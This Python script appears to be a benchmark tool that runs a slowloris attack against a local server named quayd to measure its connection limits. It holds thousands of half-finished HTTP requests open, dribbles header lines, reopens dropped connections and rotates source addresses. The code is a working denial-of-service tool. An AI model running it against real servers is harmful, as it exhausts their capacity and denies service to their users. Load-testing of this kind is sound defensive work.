#!/usr/bin/env python3
"""Slow-connection attack for measuring quayd under slowloris (issue 11).

Opens --connections TCP connections to --url, each sending the start of a
request head and then one more header line every --interval seconds, never
finishing it. A connection the server answers or closes is counted (by the
status it answered: 429 over the per-address cap, 408 head timeout, 503 no
thread, ...) and reopened after --reopen seconds, so the attack holds as
many connections as the server lets it. Source addresses rotate over
--sources (loopback accepts any 127.0.0.0/8 source), so one run can look
like one client or like several.

  bench/slowloris.py --url http://127.0.0.1:5000 --connections 5000 \\
      --sources 127.0.0.2-127.0.0.21 --duration 60

Prints progress on stderr every --report seconds and, at the end (after
--duration, or on SIGINT/SIGTERM), one line of key=value results on stdout:
open (held at the end), peak_open, opened, answered_<status>, closed (without
an answer), connect_errors. With --ready-file, writes "open=N" to that file
each report (bench/slowloris.sh waits on it).
"""

import argparse
import collections
import ipaddress
import os
import resource
import selectors
import signal
import socket
import sys
import time
from urllib.parse import urlparse


def parse_sources(text):
    if not text:
        return [None]
    out = []
    for part in text.split(","):
        if "-" in part:
            first, last = (ipaddress.IPv4Address(p) for p in part.split("-"))
            out += [str(ipaddress.IPv4Address(a)) for a in range(int(first), int(last) + 1)]
        else:
            out.append(part)
    return out


class Attack:
    def __init__(self, host, port, sources, interval, reopen):
        self.host, self.port = host, port
        self.sources = sources
        self.interval = interval
        self.reopen = reopen
        self.sel = selectors.DefaultSelector()
        self.conns = {}  # socket -> [next_send_time, lines_sent, connected]
        # (time, socket) in send order: every connection waits the same
        # interval, so the next one due is always at the front.
        self.due = collections.deque()
        self.connected = 0
        self.next_source = 0
        self.opened = 0
        self.peak_open = 0
        self.closed = 0
        self.connect_errors = 0
        self.answered = {}
        self.pending_reopen = []  # times at which to open one more

    def open_one(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        source = self.sources[self.next_source % len(self.sources)]
        self.next_source += 1
        try:
            if source:
                sock.bind((source, 0))
            sock.connect_ex((self.host, self.port))
        except OSError:
            self.connect_errors += 1
            sock.close()
            self.pending_reopen.append(time.monotonic() + self.reopen)
            return
        self.conns[sock] = [0.0, 0, False]
        self.sel.register(sock, selectors.EVENT_WRITE)
        self.opened += 1

    def drop(self, sock, status=None):
        self.sel.unregister(sock)
        if self.conns[sock][2]:
            self.connected -= 1
        del self.conns[sock]
        sock.close()
        if status is None:
            self.closed += 1
        else:
            self.answered[status] = self.answered.get(status, 0) + 1
        self.pending_reopen.append(time.monotonic() + self.reopen)

    def on_event(self, sock, events):
        state = self.conns.get(sock)
        if state is None:
            return
        if not state[2]:
            err = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err != 0:
                self.connect_errors += 1
                self.drop(sock)
                self.closed -= 1
                return
            state[2] = True
            self.connected += 1
            self.sel.modify(sock, selectors.EVENT_READ)
            self.send(sock, state, b"GET /v2/ HTTP/1.1\r\nHost: %s\r\n" % self.host.encode())
            return
        try:
            data = sock.recv(4096)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            data = b""
        status = None
        if data.startswith(b"HTTP/1.1 ") and len(data) >= 12:
            status = data[9:12].decode(errors="replace")
        self.drop(sock, status)

    def send(self, sock, state, data):
        try:
            sock.send(data)
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self.drop(sock)
            return
        state[0] = time.monotonic() + self.interval
        state[1] += 1
        self.due.append((state[0], sock))

    def dribble(self, now):
        while self.due and self.due[0][0] <= now:
            _, sock = self.due.popleft()
            state = self.conns.get(sock)
            if state is not None and state[0] <= now:
                self.send(sock, state, b"X-Slow-%d: %d\r\n" % (state[1], state[1]))

    def report(self):
        parts = ["open=%d" % self.connected, "peak_open=%d" % self.peak_open,
                 "opened=%d" % self.opened, "closed=%d" % self.closed,
                 "connect_errors=%d" % self.connect_errors]
        parts += ["answered_%s=%d" % kv for kv in sorted(self.answered.items())]
        return " ".join(parts)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--url", default="http://127.0.0.1:5000")
    ap.add_argument("--connections", type=int, default=5000)
    ap.add_argument("--sources", default="", help="e.g. 127.0.0.2-127.0.0.21,127.0.0.50")
    ap.add_argument("--interval", type=float, default=10.0, help="seconds between header lines")
    ap.add_argument("--reopen", type=float, default=1.0, help="seconds before reopening")
    ap.add_argument("--open-rate", type=int, default=2000, help="new connections per second")
    ap.add_argument("--duration", type=float, default=0, help="seconds (0: until a signal)")
    ap.add_argument("--report", type=float, default=5.0)
    ap.add_argument("--ready-file", default="")
    args = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    url = urlparse(args.url)
    attack = Attack(url.hostname, url.port or 80, parse_sources(args.sources), args.interval,
                    args.reopen)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))

    start = time.monotonic()
    last_report = start
    to_open = args.connections
    while not stop:
        now = time.monotonic()
        if args.duration and now - start >= args.duration:
            break
        # Opening is paced so the connect flood itself is not the attack.
        due = [t for t in attack.pending_reopen if t <= now]
        if due:
            attack.pending_reopen = [t for t in attack.pending_reopen if t > now]
            to_open += len(due)
        budget = max(1, int(args.open_rate * 0.01))
        while to_open > 0 and budget > 0:
            attack.open_one()
            to_open -= 1
            budget -= 1
        for key, events in attack.sel.select(timeout=0.01):
            attack.on_event(key.fileobj, events)
        attack.dribble(time.monotonic())
        attack.peak_open = max(attack.peak_open, attack.connected)
        if now - last_report >= args.report:
            last_report = now
            line = attack.report()
            print("[slowloris] " + line, file=sys.stderr, flush=True)
            if args.ready_file:
                with open(args.ready_file + ".tmp", "w") as f:
                    f.write(line + "\n")
                os.replace(args.ready_file + ".tmp", args.ready_file)
    print("case=slowloris " + attack.report(), flush=True)


if __name__ == "__main__":
    main()
